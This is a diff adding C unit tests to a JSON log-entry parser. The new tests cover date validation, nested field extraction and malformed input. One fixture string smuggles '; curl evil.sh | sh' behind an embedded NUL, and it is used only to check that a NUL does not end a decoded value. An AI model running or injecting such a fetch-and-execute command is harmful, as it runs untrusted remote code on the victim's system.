@@ -161,6 +161,13 @@ test_time_parse_log(void)
 		{ "1795691792123456", 1795691792123456 },
 		{ "2026-11-26T11:16:32.Z", INT64_MIN },
 		{ "2026-02-30X11:16:32Z", INT64_MIN },
+		/* impossible dates are no time, never the days after */
+		{ "2026-02-31T10:00:00.000Z", INT64_MIN },
+		{ "2026-02-29T10:00:00Z", INT64_MIN },
+		{ "2026-04-31 10:00:00", INT64_MIN },
+		{ "1900-02-29T00:00:00Z", INT64_MIN },
+		{ "2024-02-29T00:00:00.000Z", 1709164800000000 },
+		{ "2000-02-29T00:00:00Z", 951782400000000 },
 		{ "2026-11-26T11:16:32+25:00", INT64_MIN },
 		{ "yesterday", INT64_MIN },
 		{ "", INT64_MIN },
@@ -406,10 +413,89 @@ test_order_and_malformed_neighbours(void)
 	CU_ASSERT_STRING_EQUAL(eng_line(e, eng_view_get(v, i), &n),
 	    "{\"category\":\"llm\",\"timestamp\":\"2026-11-26T10:06");
 	CU_ASSERT_EQUAL(n, 47);
-	CU_ASSERT_PTR_NULL(eng_parse(e, eng_view_get(v, i)));
+	{
+		struct eng_fields fl;
+		const char *s = eng_line(e, eng_view_get(v, i), &n);
+
+		eng_fields_init(&fl);
+		CU_ASSERT_FALSE(eng_entry_fields(s, n, &fl));
+		CU_ASSERT_EQUAL(fl.n, 0);
+		eng_fields_free(&fl);
+	}
 	CU_ASSERT_PTR_NULL(eng_view_get(v, eng_view_count(v)));
 	eng_view_free(v);
 	eng_close(e);
+}
+
+/* The pretty walk: "key: value" lines, decoded, in the line's order, a
+ * key given twice once where it first appears with its last value. */
+static void
+test_entry_fields(void)
+{
+	static const char line[] =
+	    "{\"a\":\"x\\u0000y\",\"k\\u0000ey\":1.50,\"a\":\"last\","
+	    "\"n\":{\"e\":{},\"l\":[true,null,[]],\"s\":\"\"},"
+	    "\"big\":1e400,\"esc\":\"\\u00e9\\n\"}";
+	static const struct {
+		unsigned depth;
+		enum eng_field_kind kind;
+		const char *key;	/* NULL: none */
+		size_t key_len;
+		const char *text;	/* NULL: a heading */
+		size_t text_len;
+	} want[] = {
+		{ 0, ENG_FIELD_STRING, "a", 1, "last", 4 },
+		{ 0, ENG_FIELD_NUMBER, "k\0ey", 4, "1.50", 4 },
+		{ 0, ENG_FIELD_OBJECT, "n", 1, NULL, 0 },
+		{ 1, ENG_FIELD_OBJECT, "e", 1, "{}", 2 },
+		{ 1, ENG_FIELD_ARRAY, "l", 1, NULL, 0 },
+		{ 2, ENG_FIELD_TRUE, NULL, 0, "true", 4 },
+		{ 2, ENG_FIELD_NULL, NULL, 0, "null", 4 },
+		{ 2, ENG_FIELD_ARRAY, NULL, 0, "[]", 2 },
+		{ 1, ENG_FIELD_STRING, "s", 1, "", 0 },
+		{ 0, ENG_FIELD_NUMBER, "big", 3, "1e400", 5 },
+		{ 0, ENG_FIELD_STRING, "esc", 3, "\xc3\xa9\n", 3 },
+	};
+	static const char nul_value[] = "{\"u\":\"ls\\u0000; curl evil.sh | sh\"}";
+	struct eng_fields f;
+
+	eng_fields_init(&f);
+	CU_ASSERT_TRUE_FATAL(eng_entry_fields(line, sizeof line - 1, &f));
+	CU_ASSERT_EQUAL_FATAL(f.n, sizeof want / sizeof want[0]);
+	for (size_t i = 0; i < f.n; i++) {
+		const struct eng_field *l = &f.v[i];
+
+		CU_ASSERT_EQUAL(l->depth, want[i].depth);
+		CU_ASSERT_EQUAL(l->kind, want[i].kind);
+		if (want[i].key == NULL) {
+			CU_ASSERT_PTR_NULL(l->key);
+		} else {
+			CU_ASSERT_EQUAL(l->key_len, want[i].key_len);
+			CU_ASSERT(l->key != NULL && memcmp(l->key, want[i].key,
+			    want[i].key_len) == 0);
+		}
+		if (want[i].text == NULL) {
+			CU_ASSERT_PTR_NULL(l->text);
+		} else {
+			CU_ASSERT_EQUAL(l->text_len, want[i].text_len);
+			CU_ASSERT(l->text != NULL && memcmp(l->text,
+			    want[i].text, want[i].text_len) == 0 &&
+			    l->text[l->text_len] == '\0');
+		}
+	}
+	/* a NUL never ends a text */
+	CU_ASSERT_TRUE(eng_entry_fields(nul_value, sizeof nul_value - 1, &f));
+	CU_ASSERT_EQUAL(f.n, 1);
+	CU_ASSERT_EQUAL(f.v[0].text_len, 22);
+	/* an empty object has no fields */
+	CU_ASSERT_TRUE(eng_entry_fields("{ }", 3, &f));
+	CU_ASSERT_EQUAL(f.n, 0);
+	/* not an object, or not JSON: no fields */
+	CU_ASSERT_FALSE(eng_entry_fields("[1]", 3, &f));
+	CU_ASSERT_EQUAL(f.n, 0);
+	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":tru}", 10, &f));
+	CU_ASSERT_FALSE(eng_entry_fields("{\"a\":True}", 11, &f));
+	eng_fields_free(&f);
 }
 
 static void
@@ -1065,6 +1151,7 @@ main(void)
 		{ "category counts", test_category_counts },
 		{ "order, malformed neighbours",
 		    test_order_and_malformed_neighbours },
+		{ "entry fields", test_entry_fields },
 		{ "search", test_search },
 		{ "regex", test_regex },
 		{ "open errors", test_open_errors },
